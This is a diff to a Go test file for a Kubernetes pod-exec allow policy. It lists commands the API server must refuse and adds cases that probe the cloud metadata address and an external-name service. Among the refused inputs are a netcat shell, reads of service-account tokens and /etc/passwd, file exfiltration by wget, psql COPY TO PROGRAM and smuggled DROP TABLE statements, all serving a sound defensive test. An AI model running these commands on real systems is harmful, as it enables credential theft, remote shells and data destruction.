@@ -191,42 +191,45 @@ func TestTheAPIServerRefusesWhatTheListWould(t *testing.T) {
 		return errDenied
 	}
 	refused := map[string]corev1.PodExecOptions{
-		"a shell":                        {Command: []string{"sh", "-c", "id"}},
-		"a shell behind env":             {Command: []string{"env", "sh"}},
-		"an environment":                 {Command: []string{"env"}},
-		"input":                          {Command: []string{"df"}, Stdin: true},
-		"a terminal":                     {Command: []string{"df"}, TTY: true, Stdin: true},
-		"another program":                {Command: []string{"redis-server"}},
-		"psql outside":                   {Command: []string{"psql", "-c", "DROP TABLE x"}},
-		"psql with a fifth -c":           {Command: append(k8sops.PsqlArgv("", "", "", "", "SELECT 1"), "-c", "DROP TABLE x", "ROLLBACK")},
-		"psql with a file":               {Command: append(k8sops.PsqlArgv("", "", "", "", "SELECT 1"), "-f", "/x", "ROLLBACK")},
-		"node runs":                      {Command: []string{"node", "-e", "process.exit()"}},
-		"cat shows a token":              {Command: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}},
-		"cat shows a process":            {Command: []string{"cat", "/proc/1/environ"}},
-		"curl posts":                     {Command: []string{"curl", "-q", "-d", "x", "http://a/"}},
-		"curl deletes":                   {Command: []string{"curl", "-q", "-X", "DELETE", "http://a/"}},
-		"curl reads a config":            {Command: []string{"curl", "http://a/"}},
-		"curl writes":                    {Command: []string{"curl", "-q", "-o", "/tmp/x", "http://a/"}},
-		"wget writes":                    {Command: []string{"wget", "--no-config", "--max-redirect=0", "http://a/"}},
-		"psql runs a program":            {Command: k8sops.PsqlArgv("", "", "", "", `\! id`)},
-		"psql copies to a program":       {Command: k8sops.PsqlArgv("", "", "", "", "COPY (SELECT 1) TO PROGRAM 'id'")},
-		"psql commits and drops":         {Command: k8sops.PsqlArgv("", "", "", "", "SELECT 1; COMMIT; DROP TABLE x")},
-		"psql hides it in dollars":       {Command: k8sops.PsqlArgv("", "", "", "", "SELECT $$'$$; COMMIT; DROP TABLE x; SELECT $$'$$")},
-		"redis changes":                  {Command: []string{"redis-cli", "FLUSHALL"}},
-		"redis runs a script":            {Command: []string{"redis-cli", "EVAL", "return 1", "0"}},
-		"redis changes behind an option": {Command: []string{"redis-cli", "-n", "0", "SET", "PING", "1"}},
-		"nc runs a program":              {Command: []string{"nc", "-e", "/bin/sh", "db", "80"}},
-		"nc listens":                     {Command: []string{"nc", "-z", "-l", "80"}},
-		"dig reads a file":               {Command: []string{"dig", "-f", "/etc/passwd"}},
-		"curl reads a file as a URL":     {Command: []string{"curl", "-q", "file:///proc/self/environ"}},
-		"curl writes a second file":      {Command: []string{"curl", "-q", "--proto", "=http,https", "-o", "/tmp/x", "-A", "/dev/null", "http://a/"}},
-		"curl writes by its format":      {Command: []string{"curl", "-q", "--proto", "=http,https", "-w", "%output{/tmp/x}", "http://a/"}},
-		"curl deletes beside a GET":      {Command: []string{"curl", "-q", "--proto", "=http,https", "-X", "DELETE", "-A", "GET", "http://a/"}},
-		"wget runs a program":            {Command: []string{"wget", "--no-config", "--max-redirect=0", "--use-askpass=/bin/sh", "-O", "-", "http://a/"}},
-		"wget writes a second file":      {Command: []string{"wget", "--no-config", "--max-redirect=0", "--spider", "-O", "/tmp/x", "http://a/"}},
-		"wget posts a file":              {Command: []string{"wget", "--no-config", "--max-redirect=0", "--post-file=/etc/passwd", "-O", "-", "http://a/"}},
-		"a sign between arguments":       {Command: []string{"redis-cli", "PING\x01x"}},
-		"wget follows a redirect":        {Command: []string{"wget", "--no-config", "-O", "-", "http://a/"}},
+		"a shell":                                {Command: []string{"sh", "-c", "id"}},
+		"a shell behind env":                     {Command: []string{"env", "sh"}},
+		"an environment":                         {Command: []string{"env"}},
+		"input":                                  {Command: []string{"df"}, Stdin: true},
+		"a terminal":                             {Command: []string{"df"}, TTY: true, Stdin: true},
+		"another program":                        {Command: []string{"redis-server"}},
+		"psql outside":                           {Command: []string{"psql", "-c", "DROP TABLE x"}},
+		"psql with a fifth -c":                   {Command: append(k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1"), "-c", "DROP TABLE x", "ROLLBACK")},
+		"psql with a file":                       {Command: append(k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1"), "-f", "/x", "ROLLBACK")},
+		"node runs":                              {Command: []string{"node", "-e", "process.exit()"}},
+		"cat shows a token":                      {Command: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}},
+		"cat shows a process":                    {Command: []string{"cat", "/proc/1/environ"}},
+		"curl posts":                             {Command: []string{"curl", "-q", "-d", "x", "http://a/"}},
+		"curl deletes":                           {Command: []string{"curl", "-q", "-X", "DELETE", "http://a/"}},
+		"curl reads a config":                    {Command: []string{"curl", "http://a/"}},
+		"curl writes":                            {Command: []string{"curl", "-q", "-o", "/tmp/x", "http://a/"}},
+		"wget writes":                            {Command: []string{"wget", "--no-config", "--max-redirect=0", "http://a/"}},
+		"psql runs a program":                    {Command: k8sops.PsqlArgv("", "", "postgres", "", `\! id`)},
+		"psql copies to a program":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "COPY (SELECT 1) TO PROGRAM 'id'")},
+		"psql commits and drops":                 {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1; COMMIT; DROP TABLE x")},
+		"psql hides it in dollars":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT $$'$$; COMMIT; DROP TABLE x; SELECT $$'$$")},
+		"pg_isready with a string to connect by": {Command: []string{"pg_isready", "-t", "5", "-d", "host=169.254.169.254"}},
+		"pg_isready with an address":             {Command: []string{"pg_isready", "-d", "postgres://x@169.254.169.254/"}},
+		"pg_isready with a file":                 {Command: []string{"pg_isready", "-h", "/etc"}},
+		"redis changes":                          {Command: []string{"redis-cli", "FLUSHALL"}},
+		"redis runs a script":                    {Command: []string{"redis-cli", "EVAL", "return 1", "0"}},
+		"redis changes behind an option":         {Command: []string{"redis-cli", "-n", "0", "SET", "PING", "1"}},
+		"nc runs a program":                      {Command: []string{"nc", "-e", "/bin/sh", "db", "80"}},
+		"nc listens":                             {Command: []string{"nc", "-z", "-l", "80"}},
+		"dig reads a file":                       {Command: []string{"dig", "-f", "/etc/passwd"}},
+		"curl reads a file as a URL":             {Command: []string{"curl", "-q", "file:///proc/self/environ"}},
+		"curl writes a second file":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-o", "/tmp/x", "-A", "/dev/null", "http://a/"}},
+		"curl writes by its format":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-w", "%output{/tmp/x}", "http://a/"}},
+		"curl deletes beside a GET":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-X", "DELETE", "-A", "GET", "http://a/"}},
+		"wget runs a program":                    {Command: []string{"wget", "--no-config", "--max-redirect=0", "--use-askpass=/bin/sh", "-O", "-", "http://a/"}},
+		"wget writes a second file":              {Command: []string{"wget", "--no-config", "--max-redirect=0", "--spider", "-O", "/tmp/x", "http://a/"}},
+		"wget posts a file":                      {Command: []string{"wget", "--no-config", "--max-redirect=0", "--post-file=/etc/passwd", "-O", "-", "http://a/"}},
+		"a sign between arguments":               {Command: []string{"redis-cli", "PING\x01x"}},
+		"wget follows a redirect":                {Command: []string{"wget", "--no-config", "-O", "-", "http://a/"}},
 	}
 	for name, o := range refused {
 		if err := try(o); !errors.Is(err, errDenied) {
@@ -241,7 +244,8 @@ func TestTheAPIServerLetsOurOwnQuestionsPass(t *testing.T) {
 	b := looking(t)
 	for name, argv := range map[string][]string{
 		"psql":       k8sops.PsqlArgv("db", "5432", "app", "shop", "SELECT datname, pg_size_pretty(pg_database_size(datname))\nFROM pg_database WHERE datname <> ';' ORDER BY 2 - 1;"),
-		"psql lists": k8sops.PsqlArgv("", "", "", "", `\l`),
+		"psql lists": k8sops.PsqlArgv("", "", "postgres", "", `\l`),
+		"pg_isready": {"pg_isready", "-t", "5", "-h", "127.0.0.1", "-p", "5432", "-U", "postgres", "-d", "shop"},
 		"redis":      {"redis-cli", "-t", "5", "-h", "127.0.0.1", "-p", "6379", "config", "get", "*"},
 		"curl":       {"curl", "-q", "-s", "-S", "-v", "--proto", "=http,https", "--max-time", "8", "-X", "GET", "-k", "-o", "/dev/null", "-w", `\n%{http_code}\n`, "http://127.0.0.1/a?b=c"},
 		"wget":       {"wget", "--no-config", "--max-redirect=0", "-T", "5", "-t", "1", "-S", "-O", "-", "http://127.0.0.1/"},
@@ -256,3 +260,15 @@ func TestTheAPIServerLetsOurOwnQuestionsPass(t *testing.T) {
 }
 
 var errDenied = errors.New("denied both ways")
+
+func TestWhereAServiceLeads(t *testing.T) {
+	t.Parallel()
+	b := looking(t)
+	b.world.Kubectl(t, "create", "service", "externalname", "away", "--external-name=metadata.google.internal")
+	for service, want := range map[string]string{"away": "metadata.google.internal", "backend-service": "", "not-there": ""} {
+		got, err := b.cluster.ExternalName(t.Context(), b.world.Namespace, service)
+		if err != nil || got != want {
+			t.Errorf("%s leads to %q, %v; want %q", service, got, err, want)
+		}
+	}
+}
